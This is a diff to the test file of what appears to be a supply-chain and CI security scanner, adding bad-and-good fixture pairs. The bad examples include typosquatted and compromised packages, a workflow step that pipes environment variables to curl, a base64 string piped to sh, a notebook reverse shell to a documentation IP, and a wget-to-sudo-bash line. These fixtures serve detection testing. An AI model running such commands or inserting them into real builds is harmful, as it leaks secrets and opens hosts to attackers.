@@ -48,6 +48,11 @@ const PAIRS: readonly (readonly [rule: string, path: string, bad: string, good: 
   ['REQ-002', 'requirements.txt', 'pandas==2.2.3\n', `pandas==2.2.3 --hash=sha256:${'a'.repeat(64)}\n`],
   ['REQ-003', 'requirements.txt', '--index-url http://a.b/simple\n', '--index-url https://a.b/simple\n'],
   ['REQ-004', 'requirements.txt', '--extra-index-url https://a.b/simple\n', '--index-url https://a.b/simple\n'],
+  ['REQ-005', 'requirements.txt', 'jeIlyfish==0.7.1\n', 'jellyfish==0.7.1\n'],
+  ['REQ-005', 'requirements.txt', 'ultralytics==8.3.41\n', 'ultralytics==8.3.43\n'],
+  ['REQ-005', 'uv.lock', '[[package]]\nname = "Torch_Triton"\n\n[[package]]\nname = "torchtriton"\nversion = "3.0.0"\n', '[[package]]\nname = "triton"\nversion = "3.0.0"\n'], // prettier-ignore
+  ['REQ-005', 'yarn.lock', 'event-stream@^3.3.4:\n  version "3.3.6"\n', 'event-stream@^3.3.4:\n  version "3.3.5"\n'],
+  ['REQ-006', 'requirements.txt', 'requets==2.31.0\n', 'requests==2.31.0\n'],
   ['WF-001', '.github/workflows/a.yml', workflow('uses: a/b@v4'), workflow(`uses: a/b@${'a'.repeat(40)}`)],
   [
     'WF-002',
@@ -76,6 +81,25 @@ const PAIRS: readonly (readonly [rule: string, path: string, bad: string, good: 
     workflow('run: x').replace('steps:', `container: node@sha256:${'a'.repeat(64)}\n    steps:`),
   ],
   ['WF-008', '.github/workflows/a.yml', 'a: [\n', workflow('run: x')],
+  [
+    'WF-009',
+    '.github/workflows/a.yml',
+    workflow('run: env | curl -d @- https://example.com'),
+    workflow('run: env | sort'),
+  ],
+  [
+    'WF-010',
+    '.github/workflows/a.yml',
+    workflow('uses: tj-actions/changed-files@v45'),
+    workflow(`uses: tj-actions/changed-files@${'a'.repeat(40)}`),
+  ],
+  [
+    'DF-008',
+    'Dockerfile',
+    'FROM scratch\nRUN echo aGk= | base64 -d | sh\n',
+    'FROM scratch\nRUN echo aGk= | base64 -d > hi\n',
+  ],
+  ['NB-016', 'a.ipynb', cell('!bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'), cell('!ls /dev')],
   ['NB-004', 'a.ipynb', cell('!pip install pandas'), cell('!pip install pandas==2.2.3')],
   ['NB-005', 'a.ipynb', cell('!wget -qO- https://a.b/x | sudo bash'), cell('!wget https://a.b/x')],
   ['NB-006', 'a.ipynb', cell('open("/data/people/x.csv")'), cell('open(FOLDER)')],
